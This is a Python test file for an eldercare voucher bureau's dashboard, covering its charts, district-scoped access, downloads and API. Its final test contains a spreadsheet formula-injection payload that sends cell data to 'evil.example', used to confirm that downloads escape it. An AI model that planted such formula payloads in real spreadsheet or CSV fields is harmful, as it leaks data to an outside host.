"""The bureau's dashboard page, its downloads and its API: the same figures everywhere,
district scoping (a district officer sees only theirs; another district answers 404), bad
input answered with a message and nothing changed, and every chart an accessible SVG."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET
from datetime import date
from decimal import Decimal

import pytest
import sqlalchemy as sa

from eldercare.audit import AuditLog
from eldercare.db import db
from eldercare.tokens import issue_token
from tests.vouchers.insight import dash_world
from vouchers.insight import dashboard, figures

SVG = "{http://www.w3.org/2000/svg}svg"


@pytest.fixture
def dash(market, factory):
    built = dash_world.build(market, factory)
    db.session.commit()  # what the requests read; a refused request rolls back
    return built


def _svgs(html: str) -> list[ET.Element]:
    found = []
    start = 0
    while (i := html.find("<svg", start)) >= 0:
        end = html.index("</svg>", i) + len("</svg>")
        found.append(ET.fromstring(html[i:end]))  # noqa: S314  (our own page)
        start = end
    return found


# --------------------------------------------------------------------------- charts


def _year_rows(name: str, month) -> list[dict]:
    months = figures.months_ending(month)
    if name == "monthly":
        return [
            dict(month=f"{m:%Y-%m}", issued=i, issued_fen=i * 50000, used=i, used_fen=i * 900,
                 expired=1, returned_fen=100 * i)
            for i, m in enumerate(months, 1)
        ]  # fmt: skip
    if name == "burn_down":
        return [
            dict(month=f"{m:%Y-%m}", funded_fen=10**9, spent_fen=i * 10**7,
                 left_fen=10**9 - i * 10**7)
            for i, m in enumerate(months, 1)
        ]  # fmt: skip
    if name == "take_up":
        return [dict(district=f"2101{i:02d}", name=f"区{i}", holders=10, users=i, share_bp=i * 1000)
                for i in range(1, 10)]  # fmt: skip
    if name == "open_flags":
        return [dict(rule=f"rule{i}", label=f"规则{i}", open=i, subsidy_fen=i) for i in range(5)]
    label = {"districts": "name", "categories": "label", "providers": "provider"}[name]
    return [{label: f"名称{i}", "subsidy_fen": i * 12345, "used": i} for i in range(1, 12)]


@pytest.mark.parametrize("name", list(dashboard.TABLES))
@pytest.mark.parametrize("filled", [False, True], ids=["empty", "a-year"])
def test_every_chart_draws_from_empty_data_and_from_a_year(app, name, filled):
    from vouchers.insight.views import _chart

    table = dashboard.TABLES[name]
    rows = _year_rows(name, date(2026, 11, 1)) if filled else []
    with app.test_request_context("/", headers={"Accept-Language": "zh-CN"}):
        svg = _chart(table, rows)
        title = str(table.title)
    element = ET.fromstring(svg)  # noqa: S314  (our own drawing)
    assert element.tag == SVG
    assert element.get("role") == "img" and element.get("aria-label") == title
    texts = "".join(element.itertext())
    if filled:
        assert "尚无" not in texts
    else:
        assert "尚无" in texts  # "nothing to show yet", in Chinese


# --------------------------------------------------------------------------- the page


def test_the_city_page_shows_every_table_with_its_chart_and_figures(dash, client, login):
    login(dash.officer)
    page = client.get(f"/vouchers/bureau/insight?month={dash.month:%Y-%m}")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    svgs = _svgs(html)
    assert len(svgs) == len(dashboard.TABLES)
    assert all(s.get("role") == "img" and s.get("aria-label") for s in svgs)
    for name in dashboard.TABLES:
        assert f'id="table-{name}"' in html, name
        assert f"/vouchers/bureau/insight/{name}.csv?month={dash.month:%Y-%m}" in html
        assert f"/vouchers/bureau/insight/{name}.xlsx?month={dash.month:%Y-%m}" in html
    assert "¥508.00" in html  # the month's subsidy used, city-wide, as yuan
    assert "沈河区" in html and "和平区" in html
    assert 'data-fen="50800"' in html


def test_no_chart_carries_an_inline_style_the_csp_would_block(dash, client, login):
    """The site's Content-Security-Policy allows no inline style: every fill, stroke and font
    of a chart is a presentation attribute, which it allows (renderSVG writes styles)."""
    login(dash.officer)
    html = client.get(f"/vouchers/bureau/insight?month={dash.month:%Y-%m}").get_data(as_text=True)
    svgs = _svgs(html)
    assert svgs
    for svg in svgs:
        assert "chart" in svg.get("class", "")
        for element in svg.iter():
            assert element.get("style") is None, (element.tag, element.attrib)
    fills = {e.get("fill") for svg in svgs for e in svg.iter() if e.get("fill")}
    assert len(fills) > 2  # the palette's colours, not one default black


def test_the_page_defaults_to_this_month_in_chinese(dash, client, login):
    login(dash.officer)
    html = client.get("/vouchers/bureau/insight").get_data(as_text=True)
    assert f"{dash.month:%Y-%m}" in html
    assert "全市" in html


def test_a_district_officer_sees_only_their_district(dash, client, login):
    login(dash.district_officer)
    page = client.get(f"/vouchers/bureau/insight?month={dash.month:%Y-%m}")
    html = page.get_data(as_text=True)
    assert page.status_code == 200
    assert "和平区" in html and "沈河区" not in html
    assert "¥400.00" not in html  # Shenhe's stay
    assert 'data-fen="10800"' in html
    assert 'name="district"' not in html  # no choice of district
    own = client.get(f"/vouchers/bureau/insight?month={dash.month:%Y-%m}&district={dash.heping.id}")
    assert own.status_code == 200
    other = client.get(f"/vouchers/bureau/insight?district={dash.shenhe.id}")
    assert other.status_code == 404


def test_a_city_officer_may_narrow_to_a_district(dash, client, login):
    login(dash.officer)
    page = client.get(
        f"/vouchers/bureau/insight?month={dash.month:%Y-%m}&district={dash.shenhe.id}"
    )
    html = page.get_data(as_text=True)
    assert page.status_code == 200
    assert 'data-fen="40000"' in html and 'data-fen="10800"' not in html
    assert f"district={dash.shenhe.id}" in html  # the downloads keep the district
    assert client.get("/vouchers/bureau/insight?district=999999").status_code == 404


@pytest.mark.parametrize("month", ["2026-13", "26-11", "2026-1", "abc", "1999-12", "2026-11-01"])
def test_a_bad_month_is_said_and_changes_nothing(dash, client, login, month):
    login(dash.officer)
    before = db.session.scalar(sa.select(sa.func.count()).select_from(AuditLog))
    page = client.get("/vouchers/bureau/insight", query_string={"month": month})
    html = page.get_data(as_text=True)
    assert page.status_code == 400
    assert "2026-11" in html and 'role="alert"' in html
    assert "<svg" not in html
    english = client.get(
        "/vouchers/bureau/insight", query_string={"month": month}, headers={"Accept-Language": "en"}
    )
    assert english.status_code == 400
    assert "Give the month as year and month" in english.get_data(as_text=True)
    assert db.session.scalar(sa.select(sa.func.count()).select_from(AuditLog)) == before


def test_a_bad_district_is_said(dash, client, login):
    login(dash.officer)
    page = client.get("/vouchers/bureau/insight?district=x1")
    assert page.status_code == 400
    assert 'role="alert"' in page.get_data(as_text=True)


# --------------------------------------------------------------------------- downloads


def _csv(body: bytes) -> list[list[str]]:
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def _xlsx(body: bytes) -> list[list]:
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(body), read_only=True).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("scope", [None, "heping"])
@pytest.mark.parametrize("name", sorted(dash_world.KEYS))
def test_downloads_parse_back_with_the_same_figures(dash, client, login, scope, name):
    login(dash.district_officer if scope else dash.officer)
    want = dash_world.expected(dash)[scope][name]
    table = dashboard.TABLES[name]
    keys = [c.key for c in table.columns]
    kinds = {c.key: c.kind for c in table.columns}
    for fmt in ("csv", "xlsx"):
        answer = client.get(f"/vouchers/bureau/insight/{name}.{fmt}?month={dash.month:%Y-%m}")
        assert answer.status_code == 200, answer.get_data(as_text=True)
        assert "attachment" in answer.headers["Content-Disposition"]
        rows = _csv(answer.data) if fmt == "csv" else _xlsx(answer.data)
        headers, body = rows[0], rows[1:]
        assert len(headers) == len(keys)
        parsed = []
        for row in body:
            out = {}
            for key, value in zip(keys, row, strict=True):
                if kinds[key] == "fen":
                    out[key] = int(Decimal(str(value)) * 100)
                elif kinds[key] == "bp":
                    out[key] = int(Decimal(str(value)) * 100)
                elif kinds[key] == "count":
                    out[key] = int(value) if value not in (None, "") else None
                else:
                    out[key] = value
            parsed.append(out)
        assert dash_world.keyed(name, parsed, want) == want, (name, fmt)


def test_money_in_downloads_is_yuan_with_headings_saying_so(dash, client, login):
    login(dash.officer)
    answer = client.get(f"/vouchers/bureau/insight/districts.csv?month={dash.month:%Y-%m}")
    rows = _csv(answer.data)
    assert any("元" in h for h in rows[0])
    heping = next(r for r in rows if r[0] == "210102")
    assert heping[3] == "108.00" and heping[4] == "270.00"


def test_district_scoping_of_downloads(dash, client, login):
    login(dash.district_officer)
    answer = client.get(f"/vouchers/bureau/insight/districts.csv?month={dash.month:%Y-%m}")
    codes = [r[0] for r in _csv(answer.data)[1:]]
    assert codes == ["210102"]
    other = client.get(f"/vouchers/bureau/insight/districts.csv?district={dash.shenhe.id}")
    assert other.status_code == 404


@pytest.mark.parametrize(
    "path",
    [
        "/vouchers/bureau/insight/districts.pdf",
        "/vouchers/bureau/insight/districts.csv?month=2026-00",
        "/vouchers/bureau/insight/districts.xlsx?month=tomorrow",
    ],
)
def test_a_bad_format_or_month_in_a_download_is_400_with_a_message(dash, client, login, path):
    login(dash.officer)
    answer = client.get(path)
    assert answer.status_code == 400
    assert 'role="alert"' in answer.get_data(as_text=True)


def test_an_unknown_table_is_404(dash, client, login):
    login(dash.officer)
    assert client.get("/vouchers/bureau/insight/nothing.csv").status_code == 404


# --------------------------------------------------------------------------- the API


def _bearer(user) -> dict:
    _token, secret = issue_token(user, "Dashboard client", ["read"])
    db.session.commit()  # a refused request rolls back: the token must outlive it
    return {"Authorization": f"Bearer {secret}"}


@pytest.mark.parametrize("scope", [None, "heping"])
@pytest.mark.parametrize("name", sorted(dash_world.KEYS))
def test_the_api_answers_the_same_rows(dash, client, scope, name):
    user = dash.district_officer if scope else dash.officer
    answer = client.get(
        f"/api/v1/bureau/insight/{name}?month={dash.month:%Y-%m}", headers=_bearer(user)
    )
    assert answer.status_code == 200, answer.get_json()
    body = answer.get_json()
    assert body["table"] == name and body["month"] == f"{dash.month:%Y-%m}"
    assert body["district"] == ("210102" if scope else None)
    assert [c["key"] for c in body["columns"]] == [c.key for c in dashboard.TABLES[name].columns]
    want = dash_world.expected(dash)[scope][name]
    assert dash_world.keyed(name, body["rows"], want) == want


def test_the_api_scopes_districts_and_refuses_bad_input(dash, client):
    district = _bearer(dash.district_officer)
    city = _bearer(dash.officer)
    url = "/api/v1/bureau/insight/districts"
    assert client.get(f"{url}?district=210103", headers=district).status_code == 404
    assert client.get(f"{url}?district=210102", headers=district).status_code == 200
    narrowed = client.get(f"{url}?district=210103&month={dash.month:%Y-%m}", headers=city)
    assert [r["district"] for r in narrowed.get_json()["rows"]] == ["210103"]
    assert client.get(f"{url}?district=999999", headers=city).status_code == 404
    bad = client.get(f"{url}?month=2026-13", headers=city)
    assert bad.status_code == 422
    assert "month" in bad.get_json()["error"]["details"]["query"]
    assert client.get(f"{url}?district=21x", headers=city).status_code == 422
    assert client.get("/api/v1/bureau/insight/nothing", headers=city).status_code == 404
    assert client.get(url).status_code == 401
    elder = _bearer(dash.market.elder_user)
    assert client.get(url, headers=elder).status_code == 403


def test_the_api_is_in_the_openapi_document(client):
    spec = client.get("/api/v1/openapi.json").get_json()
    assert "/api/v1/bureau/insight/{table}" in spec["paths"]
    assert "VouchersInsightTable" in spec["components"]["schemas"]


@pytest.mark.parametrize("lang, header", [("zh-CN", "zh-CN"), ("en", "en")])
def test_the_page_speaks_one_language(dash, client, login, lang, header):
    from tests.one_language import assert_one_language

    login(dash.officer)
    for query in (f"?month={dash.month:%Y-%m}", "?month=2026-13"):
        html = client.get(
            f"/vouchers/bureau/insight{query}", headers={"Accept-Language": header}
        ).get_data(as_text=True)
        market = dash.market
        data = [
            "和平区", "沈河区", "李淑珍", "赵桂兰", market.station.name, market.home.name,
            market.institution.name, "210102", "210103",
            dash.officer.username, "odd_hours",  # a rule without a label shows its code
        ]  # fmt: skip
        assert_one_language(html, lang, data=data)


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_a_provider_named_like_a_formula_is_text_in_every_download(dash, client, login):
    """The CSV wrote text cells unchanged, so Excel ran a provider named "=HYPERLINK(…)" as
    a formula. Text starting with = + - @ TAB or CR gets a leading quote (OWASP); numbers,
    negative ones too, are left alone."""
    dash.market.station.name = FORMULA
    db.session.commit()
    login(dash.officer)
    month = f"month={dash.month:%Y-%m}"
    rows = _csv(client.get(f"/vouchers/bureau/insight/providers.csv?{month}").data)
    names = [r[1] for r in rows[1:]]
    assert "'" + FORMULA in names and FORMULA not in names
    # The burn-down's "left" of last month is negative (spent before anything was funded).
    left = [r[-1] for r in _csv(client.get(f"/vouchers/bureau/insight/burn_down.csv?{month}").data)]
    assert "-20.00" in left and not any(v.startswith("'") for v in left)
